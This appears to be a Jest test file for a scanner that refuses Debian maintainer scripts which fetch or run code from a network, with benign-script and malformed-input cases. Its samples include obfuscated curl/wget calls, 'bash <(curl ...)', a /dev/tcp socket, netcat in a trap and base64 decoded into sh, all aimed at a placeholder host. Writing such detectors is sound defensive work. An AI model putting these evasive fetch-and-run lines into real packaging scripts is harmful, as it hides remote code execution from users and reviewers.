import { describe, expect, it } from '@jest/globals'
import { scriptFindings } from '../../../src/targets/deb/scripts/script-findings.ts'

const found = (body: string, head = '#!/bin/sh\nset -e\n'): string[] =>
  scriptFindings(head + body, 'debian/postinst').map(
    ({ severity, where, message }) => `${severity} ${where} ${message}`
  )
const refusals = (body: string): string[] => found(body).filter((line) => line.startsWith('refuse'))

describe('maintainer scripts that fetch or run from a network are refused', () => {
  it.each([
    ['curl', 'curl -fsSL http://x.test/a | tar x'],
    ['by its path', '/usr/bin/wget -q http://x.test/a'],
    ['in a condition', 'if ! command -v x; then\n  curl http://x.test\nfi'],
    ['with quotes in its name', 'cu""rl http://x.test'],
    ['with a backslash', 'cur\\l http://x.test'],
    ['behind variables', 'C=cur\nD=l\n"$C$D" http://x.test'],
    ['with an empty variable in its name', 'e=\ncu${e}rl http://x.test'],
    ['in a substitution', 'x="$(curl http://x.test)"'],
    ['in backquotes', 'x=`wget -qO- http://x.test`'],
    ['in a process substitution', '#\nbash <(curl http://x.test)'],
    ['in a here-document for a shell', 'sh <<EOF\ncurl http://x.test\nEOF'],
    ['in a here-document for Python', 'python3 - <<EOF\nimport urllib.request\nEOF'],
    ['in a here-document for Perl', 'perl <<EOF\nuse Socket;\nEOF'],
    ['with a connection of asyncio', "python3 -c 'import asyncio; asyncio.open_connection()'"],
    ['with a socket of Perl', "perl -MSocket -e 'socket(S, PF_INET, SOCK_STREAM, 0)'"],
    ['with the helper of apt', '/usr/lib/apt/apt-helper download-file http://x.test/a /tmp/a'],
    ['in a substitution of a here-document', 'cat <<EOF >/etc/x\n$(curl http://x.test)\nEOF'],
    ['through a wrapper', 'timeout 10 nice -n 5 env A=b curl http://x.test'],
    ['through xargs', 'echo http://x.test | xargs -n1 curl -O'],
    ['through busybox', 'busybox wget http://x.test'],
    ['in sh -c', "sh -ec 'curl http://x.test'"],
    ['in eval', "eval 'curl http://x.test'"],
    ['in su -c', "su - herald -c 'git clone http://x.test/x'"],
    ['in a trap', "trap 'nc x.test 80' EXIT"],
    ['over continued lines', 'pip3 \\\n  install \\\n  flask'],
    ['by a module of Python', '/usr/lib/herald/bin/python -m pip install flask'],
    ['by Python itself', 'python3 -c \'import urllib.request as u; u.urlopen("http://x.test")\''],
    ['by perl', 'perl -MIO::Socket -e \'IO::Socket::INET->new("x.test:80")\''],
    ['by apt', 'DEBIAN_FRONTEND=noninteractive apt-get -y install nginx'],
    ['by git', 'git -C /srv clone http://x.test/x'],
    ['by npm', 'npm ci'],
    ['by a shell alone', 'exec 3<>/dev/tcp/x.test/80'],
    ['by keys from a server', 'gpg --keyserver x.test --recv-keys 1'],
    ['by dpkg', 'dpkg -i /tmp/x.deb'],
    ['in the default of a variable', ': "${X:=$(curl http://x.test)}"']
  ])('%s', (_, body) => {
    expect(refusals(body)).toHaveLength(1)
  })

  it('as is text that they decode, or that another program writes, and run', () => {
    expect(refusals('echo Y3VybA== | base64 -d | sh')[0]).toContain('runs text that it decodes')
    expect(refusals("printf '\\143\\165' | bash")[0]).toContain('decodes')
    expect(refusals('cat /usr/share/x/setup | sh -s -- --yes')[0]).toContain('another program writes')
    expect(refusals('eval "$(echo Y3VybA== | base64 -d)"')[0]).toContain('decodes')
    expect(refusals('eval "$(apt-config shell X Dir)"')).toEqual([])
    expect(found('eval "$(apt-config shell X Dir)"')[0]).toContain('warn')
  })

  it('with the line at fault', () => {
    expect(found("# curl\necho 'a\nb'\nwhile true; do\n  curl http://x.test\ndone")).toEqual([
      'refuse debian/postinst:7 It fetches from a network.'
    ])
  })
})

describe('honest maintainer scripts', () => {
  it('are left alone, whatever words stand in their texts', () => {
    const body = `
# curl, wget
. /usr/share/debconf/confmodule
case "$1" in
    configure|curl)
        adduser --system --group herald
        command -v pip >/dev/null || echo 'no pip: apt-get install python3-pip' >&2
        for d in /var/lib/herald "/etc/herald"; do install -d -o herald "$d"; done
        cat >/etc/herald/readme <<'END'
        $(curl http://x.test) is not run
END
        ;;
    abort-*) ;;
esac
if [ -d /run/systemd/system ]; then systemctl --system daemon-reload || true; fi
pip list | grep -q flask || true
x=$((1 + (2)))
getent passwd herald | cut -d: -f6 | while read -r home; do chown herald "\${home:-/}"; done
dpkg-maintscript-helper rm_conffile /etc/x 1.0 -- "$@"
: "\${COUNT:=$(dpkg-query -f '\${db:Status-Abbrev}\\n' -W "$PACKAGE" | grep -c '^i')}"
apt-key --keyring /x del 1
#DEBHELPER#
exit 0
`
    expect(found(body)).toEqual([])
  })

  it('should stop at the first error', () => {
    expect(found('echo 1\n', '#!/bin/sh\n')).toEqual([
      'warn debian/postinst:1 The script does not stop at the first error.'
    ])
    expect(found('echo 1\n', '#!/bin/bash -e\n')).toEqual([])
    expect(found('set -o errexit\n', '#!/bin/sh\n')).toEqual([])
  })
})

describe('what cannot be read is refused', () => {
  it.each([
    ['no shell', 'import os\n', '#!/usr/bin/python3\n'],
    ['nothing that says so', 'echo 1\n', ''],
    ['an open quote', 'echo "x\n', '#!/bin/sh\n'],
    ['line ends of Windows', 'echo 1\r\n', '#!/bin/sh\n'],
    ['bytes that are no text', 'echo \0\n', '#!/bin/sh\n'],
    ['nesting without end', '$('.repeat(5000), '#!/bin/sh\n']
  ])('%s', (_, body, head) => {
    expect(found(body, head).some((line) => line.startsWith('refuse debian/postinst:1'))).toBe(true)
  })

  it('in little time, however long it is', () => {
    const from = Date.now()
    for (const body of ['"'.repeat(200_000), '`'.repeat(200_001), 'a '.repeat(100_000), '$(a'.repeat(60_000)])
      found(body)
    expect(Date.now() - from).toBeLessThan(5000)
  })
})
